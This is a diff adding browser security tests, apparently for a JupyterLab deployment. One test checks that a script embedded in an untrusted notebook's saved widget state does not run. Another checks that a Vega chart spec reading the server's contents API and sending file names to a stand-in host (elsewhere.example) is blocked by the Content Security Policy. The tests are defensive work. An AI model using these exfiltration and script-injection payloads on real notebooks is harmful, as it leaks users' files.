@@ -177,3 +177,60 @@ def test_what_waits_to_be_trusted_offers_no_other_way_to_run(page, lab, waits):
     assert page.get_by_role("button", name="Run it").count() == 1
     assert page.get_by_role("button", name="Go on here").count() == 0
     second.close()
+
+
+SCRIPT = "document.documentElement.dataset.sprung = 'yes'; export default {render() {}}"
+# Vega's own data and marks (vega.github.io/vega/docs, "Data" and "Image"): read a page of ours, put what it says into
+# the address of a picture.
+TELLS = {
+    "data": [{"name": "page", "url": "/api/contents/", "format": {"type": "json", "property": "content"}}],
+    "marks": [
+        {
+            "type": "image",
+            "from": {"data": "page"},
+            "encode": {
+                "enter": {"url": {"signal": "'https://elsewhere.example/?' + datum.name"}, "width": {"value": 9}}
+            },
+        }
+    ],
+}
+
+
+def _shows(path, *outputs, **more):
+    cells = [v4.new_markdown_cell("# Hello\n\n![](https://elsewhere.example/seen)"), v4.new_code_cell("1")]
+    cells[1].outputs = [v4.new_output("display_data", one) for one in outputs]
+    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3"}, **more}
+    nbformat.write(v4.new_notebook(metadata=metadata, cells=cells), path)
+
+
+def test_a_strangers_saved_widget_runs_no_script(page, lab):
+    """JupyterLab makes each widget that a notebook holds as it opens, shown or not."""
+    about = {"_model_module": "anywidget", "_model_name": "AnyModel", "_model_module_version": "*"}
+    one = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "*"}
+    held = {"version_major": 2, "version_minor": 0, "state": {"a" * 32: {**one, "state": {**about, "_esm": SCRIPT}}}}
+    _shows(lab.folder / "saved.ipynb", widgets={"application/vnd.jupyter.widget-state+json": held})
+    page.goto(lab.address("saved.ipynb"))
+    page.wait_for_selector(".jp-Notebook h1")
+    page.wait_for_timeout(5000)
+    assert page.evaluate("document.documentElement.dataset.sprung") is None
+    with NotebookNotary(data_dir=os.path.join(os.environ["JUPYTER_DATA_DIR"], "drinklab")) as ours:  # and as a check:
+        ours.sign(nbformat.read(lab.folder / "saved.ipynb", 4))
+    page.goto(lab.address("saved.ipynb"))
+    page.wait_for_selector("html[data-sprung]", state="attached")
+
+
+def test_what_a_stranger_shows_tells_nobody_that_it_is_looked_at(page, lab):
+    """A chart may read what the page may read; nothing of it goes to another computer."""
+    picture = {"text/html": "<img src='https://elsewhere.example/html'>"}
+    _shows(lab.folder / "tells.ipynb", {"application/vnd.vega.v5+json": TELLS}, picture)
+    asked, kept = [], []
+    page.on("requestfinished", lambda request: asked.append(request.url))
+    page.on("console", lambda said: kept.append(said.text))
+    page.goto(lab.address("tells.ipynb"))
+    page.wait_for_selector(".jp-Notebook h1")
+    page.wait_for_selector(".jp-OutputArea-output img", state="attached")
+    page.wait_for_timeout(5000)
+    assert not [address for address in asked if "elsewhere" in address]
+    stopped = " ".join(said for said in kept if "Content Security Policy" in said)
+    for way in ("seen", "html", "?00_bench.ipynb"):  # each was tried
+        assert f"https://elsewhere.example/{way}" in stopped
